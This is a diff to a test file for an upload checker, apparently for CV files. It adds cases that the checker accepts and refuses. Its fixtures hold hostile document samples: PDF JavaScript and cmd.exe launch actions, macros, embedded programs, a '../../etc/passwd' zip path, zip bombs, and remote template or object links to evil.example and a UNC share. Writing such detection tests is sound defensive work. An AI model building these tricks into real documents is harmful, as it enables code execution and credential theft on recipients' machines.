@@ -8,11 +8,11 @@ const folder = mkdtempSync(join(tmpdir(), 'portal-kinds-'));
 const path = join(folder, 'received');
 afterAll(() => rmSync(folder, { recursive: true, force: true }));
 
-async function kindOf(content: Buffer, name = 'cv.txt'): Promise<string | undefined> {
+async function kindOf(content: Buffer, name = 'cv.txt'): Promise<string> {
   writeFileSync(path, content);
   const kind = await findKind(path, name);
   expect(readdirSync(folder)).toEqual(['received']);
-  return kind?.extension;
+  return 'refused' in kind ? kind.refused : kind.extension;
 }
 
 const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1_048_576);
@@ -22,8 +22,38 @@ const table = (...more: Part[]) => ({
   content: zip([{ name: 'xl/workbook.xml', content: '<workbook/>' }, ...more]),
 });
 
+const relation = (type: string, target: string) =>
+  `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`;
+const withRelation = (type: string, target: string, before = '') =>
+  docx({
+    name: 'word/_rels/settings.xml.rels',
+    content: `<?xml version="1.0"?>${before}<Relationships>${relation(type, target)}</Relationships>`,
+    stored: true,
+  });
+const styles = (content: string): Part => ({
+  name: 'styles.xml',
+  content: `<office:document-styles>${content}</office:document-styles>`,
+});
+
 test.each([
   ['a PDF', pdf(), 'pdf'],
+  ['a Word document with links', withRelation('hyperlink', 'https://www.linkedin.com/in/aino'), 'docx'],
+  ['a Word document with a linked picture', withRelation('image', 'https://example.fi/logo.png'), 'docx'],
+  [
+    'a Word document made from a template',
+    withRelation('attachedTemplate', 'file:///C:\\Users\\aino\\Mallit\\CV.dotx'),
+    'docx',
+  ],
+  [
+    'an OpenDocument text with links',
+    odt(styles('<text:a xlink:type="simple" xlink:href="https://example.fi/">CV</text:a>')),
+    'odt',
+  ],
+  [
+    'an OpenDocument text with a table',
+    odt(styles('<draw:object xlink:href="./Object 1" xlink:type="simple"/>')),
+    'odt',
+  ],
   ['a Word document', docx(), 'docx'],
   [
     'a Word document with a table and a large picture inside',
@@ -56,17 +86,12 @@ test.each([
   ['HTML', Buffer.from(html)],
   ['a PDF header in front of HTML', pdf(400, html)],
   ['HTML behind a PDF', Buffer.concat([pdf(), Buffer.from(html)])],
+  ['a PDF behind a mark of the order of bytes', Buffer.concat([Buffer.from('efbbbf', 'hex'), pdf()])],
+  ['a PDF with a ZIP far before its end', Buffer.concat([pdf(), docx(), Buffer.alloc(100_000, 0x20), pdf()])],
   ['a PDF inside a text', Buffer.concat([Buffer.from('Hei\n'), pdf()])],
   ['a PDF inside a photograph', jpeg(10, 10, '%PDF-1.7')],
   ['HTML inside a photograph', jpeg(10, 10, html)],
   ['a PDF that is a ZIP as well', Buffer.concat([pdf(), docx()])],
-  ['a PDF with a script', pdf(400, '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
-  ['a PDF that starts a program', pdf(400, '<< /S/Launch /F (cmd.exe) >>')],
-  ['RTF with an object', Buffer.from('{\\rtf1\\ansi {\\object\\objemb{\\*\\objdata 0105}}}')],
-  [
-    'a Word document with macros',
-    docx({ name: 'word/vbaProject.bin', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') }),
-  ],
   ['an SVG', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')],
   ['a ZIP of anything', zip([{ name: 'cv.pdf', content: 'x' }])],
   [
@@ -87,8 +112,6 @@ test.each([
     'a bomb in many tables',
     docx(...[1, 2, 3].map((n) => ({ ...table({ name: 'xl/a', content: zeros(40) }), name: `${n}.xlsx` }))),
   ],
-  ['archives in archives in archives', docx(table(table()))],
-  ['a program in a document', docx({ name: 'word/embeddings/a.bin', content: 'MZ\x90\x00 program' })],
   ['a document whose parts overlap', overlapping()],
   ['an encrypted document', encrypted()],
   ['a document with a path that leads out', docx({ name: '../../etc/passwd', content: 'x' })],
@@ -99,5 +122,55 @@ test.each([
   ['a picture without a size', png(0, 10)],
   ['a photograph without a frame', jpeg(10, 10).subarray(0, 24)],
 ])('%s is refused', async (_what, content) => {
-  expect(await kindOf(content)).toBeUndefined();
+  expect(await kindOf(content)).toBe('file-type');
+});
+
+test.each([
+  ['a PDF with a script', pdf(400, '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
+  ['a PDF that starts a program', pdf(400, '<< /S/Launch /F (cmd.exe) >>')],
+  ['RTF with an object', Buffer.from('{\\rtf1\\ansi {\\object\\objemb{\\*\\objdata 0105}}}')],
+  ['archives in archives in archives', docx(table(table()))],
+  ['a program in a document', docx({ name: 'word/embeddings/a.bin', content: 'MZ\x90\x00 program' })],
+  [
+    'a Word document with macros',
+    docx({ name: 'word/vbaProject.bin', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') }),
+  ],
+  ['a PDF with a file inside', pdf(400, '<< /Type /EmbeddedFile /Length 9 >>')],
+  ['a PDF with a list of files inside', pdf(400, '/Names << /EmbeddedFiles 5 0 R >>')],
+  ['a Word document with a template of another site', withRelation('attachedTemplate', 'https://evil.example/a.dotm')],
+  ['a Word document with a template of another machine', withRelation('attachedTemplate', '\\\\10.0.0.1\\a.dotm')],
+  ['a Word document with a template behind a file address', withRelation('attachedTemplate', 'file://10.0.0.1/a.dotm')],
+  ['a Word document with a veiled address', withRelation('attachedTemplate', '&#104;ttps://evil.example/a.dotm')],
+  ['a Word document with an object of another site', withRelation('oleObject', 'http://evil.example/x.html!')],
+  [
+    'a Word document that hides its links',
+    docx({ name: 'word/_rels/a.rels', content: Buffer.from('<a/>', 'utf16le') }),
+  ],
+  ['an OpenDocument text with macros', odt({ name: 'Basic/Standard/Module1.xml', content: '<script:module/>' })],
+  [
+    'an OpenDocument text with a button that runs a macro',
+    odt(styles('<script:event-listener xlink:href="vnd.sun.star.script:a?b"/>')),
+  ],
+  [
+    'an OpenDocument text with an object of another site',
+    odt(styles('<draw:object xlink:href="https://evil.example/x"/>')),
+  ],
+  [
+    'an OpenDocument text with a section of another site',
+    odt(styles('<text:section-source xlink:href="//evil.example/x"/>')),
+  ],
+])('%s is refused as one that does something when it is opened', async (_what, content) => {
+  expect(await kindOf(content)).toBe('file-active');
+});
+
+test('what hides at the border of two pieces is found', async () => {
+  const border = 64 * 1024;
+  const filler = `<w:a/>${' '.repeat(border - 100)}`;
+  for (let shift = 0; shift < 130; shift += 13) {
+    const pad = 'x'.repeat(shift);
+    expect(await kindOf(withRelation('attachedTemplate', 'https://evil.example/a.dotm', filler + pad))).toBe(
+      'file-active',
+    );
+    expect(await kindOf(pdf(border * 2, `${' '.repeat(border - 70)}${pad}/S /JavaScript`))).toBe('file-active');
+  }
 });
